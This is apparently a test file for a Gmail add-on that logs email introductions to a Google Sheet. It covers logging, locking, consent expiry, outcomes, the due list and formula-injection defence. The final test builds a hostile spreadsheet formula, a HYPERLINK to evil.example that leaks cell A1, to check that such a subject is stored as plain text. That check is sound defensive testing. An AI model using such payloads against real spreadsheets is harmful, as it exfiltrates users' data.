// The intro log through the built bundle: logging, one row per thread, the lock, consent expiry, outcomes, hand edits, the due list and formula injection.
import { columnLetter } from '../../src/core/log/log-columns';
import { homepageEvent } from '../../src/local/addon-events';
import { FakeGmailApp } from '../../src/local/fake-gmail-app';
import { addThread, ME, SENT, introRequest, introTo, logId, logSectionOf, myIntro, pressOn, rows } from './intro-log-harness';
import { buttonsOf, openSidebar, openThread, press, textOf, type Json } from './sidebar-harness';

const DAY_MS = 86_400_000;

/** A clock the test moves; the bundle's `new Date()` reads it. */
function clockAt(start: Date) {
  return { at: start, now() { return this.at; }, later(days: number) { this.at = new Date(this.at.getTime() + days * DAY_MS); } };
}

function setup(options: { clock?: ReturnType<typeof clockAt> } = {}) {
  const gmail = new FakeGmailApp({ owner: ME });
  const sidebar = openSidebar(gmail, ME, { clock: options.clock });
  return { gmail, sidebar };
}

const column = (row: unknown[], key: Parameters<typeof columnLetter>[0]) => row[columnLetter(key).charCodeAt(0) - 65];
const cardOf = (response: Json): Json => response.navigations[0].updateCard;
const buttonTexts = (card: Json) => buttonsOf(card).map((b) => b.text);

describe('logging a thread', () => {
  it('writes one row with the thread\'s facts and shows the logged state on the thread card', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    const response = pressOn(sidebar, threadId, 'Log this intro');
    expect(response.notification.text).toBe('Logged.');
    const [row] = rows(sidebar);
    expect(column(row, 'subject')).toBe('Priya, meet Tomás');
    expect(column(row, 'kind')).toBe('intro');
    expect(column(row, 'introducerEmail')).toBe('dana@whitfield.example.org');
    expect(column(row, 'otherPartyName')).toBe('Tomás Ferreira');
    expect(column(row, 'threadId')).toBe(threadId);
    const section = logSectionOf(cardOf(response));
    expect(textOf(section)).toContain('awaiting reply');
    expect(buttonsOf(section).map((b) => b.text)).toEqual(['Save outcome', 'Intro log']);
  });

  it('keeps one row per thread however often it is logged: by hand, by drafting and by an outcome', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    const other = introTo(gmail, { id: 'second', subject: 'Another intro', from: '"Sam Ode" <sam@ode.example.com>' });
    pressOn(sidebar, threadId, 'Log this intro');
    pressOn(sidebar, other, 'Log this intro');
    pressOn(sidebar, threadId, 'Reply and move Dana to BCC');
    pressOn(sidebar, threadId, 'Save outcome', { 'log.outcome': 'met', 'log.outcomeNote': 'coffee' });
    expect(rows(sidebar).map((row) => column(row, 'threadId'))).toEqual([threadId, other]);
    expect(sidebar.lock.isHeld('user')).toBe(false);
  });

  it('tells the user someone else is updating the log when the lock is held, and writes nothing', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    pressOn(sidebar, threadId, 'Log this intro');
    const before = rows(sidebar);
    sidebar.lock.holdByAnotherExecution('user');
    const response = pressOn(sidebar, threadId, 'Save outcome', { 'log.outcome': 'met' });
    expect(response.notification.text).toMatch(/^Someone else is updating your intro log right now.*Nothing was changed; try again/);
    expect(textOf(cardOf(response))).not.toContain('Something went wrong');
    expect(rows(sidebar)).toEqual(before);

    // The other execution finishes: the same click now lands, still in the one row.
    sidebar.lock.holdByAnotherExecution('user', 0);
    expect(pressOn(sidebar, threadId, 'Save outcome', { 'log.outcome': 'met' }).notification.text).toBe('Outcome saved: met.');
    expect(rows(sidebar).map((row) => column(row, 'outcome'))).toEqual(['met']);
  });

  it('opens a draft even while the log is busy, and says so on the card drawn next', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    pressOn(sidebar, threadId, 'Log this intro');
    sidebar.lock.holdByAnotherExecution('user');
    expect(pressOn(sidebar, threadId, 'Decline kindly').gmailDraft.to).toContain('dana@whitfield.example.org');
    expect(rows(sidebar).map((row) => column(row, 'outcome'))).toEqual(['']);
  });
});

describe('consent asks (rule 1: ask once, silence is a no)', () => {
  it('records the ask, then after the expiry treats silence as no and offers the kind "not a fit" reply', () => {
    const clock = clockAt(new Date('2026-01-06T09:00:00Z'));
    const { gmail, sidebar } = setup({ clock });
    const threadId = introRequest(gmail);
    const ask = pressOn(sidebar, threadId, /^Ask .* first/);
    expect(ask.gmailDraft.to).toBe('tomas@larkspur.example.net');
    expect(column(rows(sidebar)[0], 'consent')).toBe('asked');

    clock.later(3);
    const waiting = openThread(sidebar, threadId).card;
    expect(textOf(logSectionOf(waiting))).toContain('asked on 6 Jan 2026');
    expect(buttonTexts(waiting)).not.toContain('Tell Kyle kindly it is not a fit');

    clock.later(5);
    const expired = openThread(sidebar, threadId).card;
    expect(textOf(logSectionOf(expired))).toContain('no reply, treated as no');
    expect(column(rows(sidebar)[0], 'consent')).toBe('no reply, treated as no');
    const notAFit = pressOn(sidebar, threadId, 'Tell Kyle kindly it is not a fit').gmailDraft;
    expect(notAFit.to).toContain('kyle@brennan.example.org');
    expect(notAFit.body).toMatch(/^Hi Kyle,\n\nI checked with Tomas about an introduction, and it isn't a fit/);
    expect(column(rows(sidebar)[0], 'outcome')).toBe('declined');
  });

  it('honours the expiry the user set in the Intro log card', () => {
    const clock = clockAt(new Date('2026-01-06T09:00:00Z'));
    const { gmail, sidebar } = setup({ clock });
    const threadId = introRequest(gmail);
    const logCard = (sidebar.addon.run('onIntroLogUniversal', homepageEvent()) as Json).cards[0];
    const save = buttonsOf(logCard).find((b) => b.text === 'Save')!;
    expect(press(sidebar, homepageEvent(), save, { 'log.consentExpiryDays': '2', 'log.outcomeFollowUpDays': '14' }).notification.text).toBe('Log settings saved.');
    pressOn(sidebar, threadId, /^Ask .* first/);
    clock.later(2);
    expect(buttonTexts(openThread(sidebar, threadId).card)).toContain('Tell Kyle kindly it is not a fit');
  });

  it('refuses a second ask to the same person for the same requester at the button, with the reason, and opens no draft', () => {
    const { gmail, sidebar } = setup();
    const first = introRequest(gmail);
    const again = introRequest(gmail, 'request-again', 'Following up: intro to Tomás?');
    const staleCard = openThread(sidebar, again);
    pressOn(sidebar, first, /^Ask .* first/);

    const card = openThread(sidebar, again).card;
    expect(buttonTexts(card).some((text) => /^Ask .* first/.test(text))).toBe(false);
    expect(textOf(card)).toMatch(/<b>Ask once.<\/b> You already asked Tomas about Kyle Brennan on \d+ \w+ 2026 \(thread &quot;Intro to Tomás Ferreira\?&quot;\)/);

    const drafts = gmail.drafts().length;
    const stale = press(sidebar, staleCard.event, buttonsOf(staleCard.card).find((b) => /^Ask .* first/.test(b.text))!);
    expect(stale.notification.text).toMatch(/^You already asked Tomas about Kyle Brennan/);
    expect(gmail.drafts()).toHaveLength(drafts);
  });
});

describe('outcomes (rule 4: tell the introducer what came of it)', () => {
  it('records the outcome and note, then offers the thank-you that tells the introducer how it went', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    pressOn(sidebar, threadId, 'Log this intro');
    const saved = pressOn(sidebar, threadId, 'Save outcome', { 'log.outcome': 'working together', 'log.outcomeNote': 'pilot signed' });
    expect(saved.notification.text).toBe('Outcome saved: working together.');
    expect([column(rows(sidebar)[0], 'outcome'), column(rows(sidebar)[0], 'outcomeNote')]).toEqual(['working together', 'pilot signed']);
    expect(buttonTexts(cardOf(saved))).toContain('Tell Dana how it went');

    const thanks = pressOn(sidebar, threadId, 'Tell Dana how it went').gmailDraft;
    expect(thanks.to).toContain('dana@whitfield.example.org');
    expect(thanks.body).toMatch(/^Hi Dana,\n\nA quick update on your intro to Tomás: we are now working together\./);
  });

  it('refuses an outcome that is not on the list, saving nothing', () => {
    const { gmail, sidebar } = setup();
    const threadId = introTo(gmail);
    pressOn(sidebar, threadId, 'Log this intro');
    expect(pressOn(sidebar, threadId, 'Save outcome', { 'log.outcome': 'maybe' }).notification.text).toBe('Pick an outcome from the list, then save.');
    expect(column(rows(sidebar)[0], 'outcome')).toBe('');
  });

  it('offers, for an intro I made, a follow-up asking both people how it went', () => {
    const { gmail, sidebar } = setup();
    const threadId = myIntro(gmail);
    expect(buttonTexts(openThread(sidebar, threadId).card)).not.toContain('Ask them how it went');
    pressOn(sidebar, threadId, 'Log this intro');
    const followUp = pressOn(sidebar, threadId, 'Ask them how it went').gmailDraft;
    expect(followUp.to).toBe('tomas@larkspur.example.net, lee.park@example.net');
    expect(followUp.subject).toBe('Re: Intro: Tomás and Lee');
    expect(followUp.body).toMatch(/^Hi Tomás and Lee,\n\n.*how it went|did you get to talk/s);
  });
});

describe('the sheet as a person edits it', () => {
  it('reads hand edits back: a consent answer, an outcome typed in any case and a moved follow-up date', () => {
    const { gmail, sidebar } = setup();
    const threadId = introRequest(gmail);
    pressOn(sidebar, threadId, /^Ask .* first/);
    const id = logId(sidebar);
    sidebar.sheets.typeInCell(id, `'Log'!${columnLetter('consent')}2`, 'yes');
    sidebar.sheets.typeInCell(id, `'Log'!${columnLetter('outcome')}2`, 'Met');
    sidebar.sheets.typeInCell(id, `'Log'!${columnLetter('followUpDue')}2`, '2026-03-01');
    const section = logSectionOf(openThread(sidebar, threadId).card);
    expect(section.widgets[0].decoratedText).toMatchObject({ topLabel: 'Consent', text: 'yes' });
    expect(textOf(section)).toContain('1 Mar 2026');
    expect(section.widgets.find((w: Json) => w.selectionInput)?.selectionInput.items.find((i: Json) => i.selected)?.value).toBe('met');
  });
});

describe('the homepage due list', () => {
  it('lists an intro left unanswered for a day, with a link to its thread, in at most two range reads', () => {
    const clock = clockAt(new Date(SENT.getTime() + DAY_MS / 2));
    const { gmail, sidebar } = setup({ clock });
    const threadId = introTo(gmail);
    pressOn(sidebar, threadId, 'Log this intro');
    const home = () => (sidebar.addon.run('onHomepage', homepageEvent()) as Json[])[0];
    expect(textOf(home())).toContain('Nothing is due');

    clock.later(2);
    sidebar.sheets.resetCalls();
    const card = home();
    expect(sidebar.sheets.calls.get('spreadsheets.values.get')).toBe(1);
    expect(sidebar.sheets.calls.get('spreadsheets.values.batchGet')).toBe(1);
    expect(sidebar.sheets.totalCalls()).toBe(2);
    const due = card.sections[0];
    expect(due.header).toBe('Due');
    expect(due.widgets[0].decoratedText.topLabel).toMatch(/^Reply, and move the introducer to BCC/);
    expect(due.widgets[0].decoratedText.button.onClick.openLink.url).toBe(`https://mail.google.com/mail/#all/${threadId}`);
  });

  it('shows no due list and touches no sheet before the first intro is logged', () => {
    const { sidebar } = setup();
    const [card] = sidebar.addon.run('onHomepage', homepageEvent()) as Json[];
    expect(card.sections.map((s: Json) => s.header)).not.toContain('Due');
    expect(sidebar.sheets.totalCalls()).toBe(0);
  });

  it('says what is wrong and offers the way out when the log is gone', () => {
    const { gmail, sidebar } = setup();
    pressOn(sidebar, introTo(gmail), 'Log this intro');
    sidebar.sheets.deleteForever(logId(sidebar));
    const [card] = sidebar.addon.run('onHomepage', homepageEvent()) as Json[];
    expect(textOf(card.sections[0])).toContain('no longer exists');
    expect(buttonTexts(card)).toEqual(expect.arrayContaining(['Create a new log', 'Use another log']));
  });
});

describe('formula injection', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('stores a subject and a name starting with %j as text, never as a formula', (start) => {
    const { gmail, sidebar } = setup();
    const subject = `${start}HYPERLINK("https://evil.example/?leak="&A1,"click")`;
    const threadId = addThread(gmail, {
      id: 'hostile', from: `"${start}1 Dana" <dana@whitfield.example.org>`, to: `"Priya Raman" <${ME}>, "Tomás Ferreira" <tomas@larkspur.example.net>`,
      subject, body: 'Priya, meet Tomás. Tomás, meet Priya. I think you two should talk about freight pilots.',
    });
    pressOn(sidebar, threadId, 'Log this intro');
    const id = logId(sidebar);
    const rowCells = 'ABCDEFGHIJKLMNOPQR'.split('').map((letter) => sidebar.sheets.cellAt(id, `'Log'!${letter}2`));
    expect(rowCells.filter((cell) => cell?.formula)).toEqual([]);
    const stored = (key: Parameters<typeof columnLetter>[0]) => sidebar.sheets.cellAt(id, `'Log'!${columnLetter(key)}2`)?.value;
    expect(stored('subject')).toBe(subject);
    // Address parsing trims a name's leading tab or CR; what is left is still stored as typed.
    expect(stored('introducerName')).toBe(`${start}1 Dana`.trim());
    expect(textOf(rows(sidebar))).not.toContain('#NAME?');
  });
});
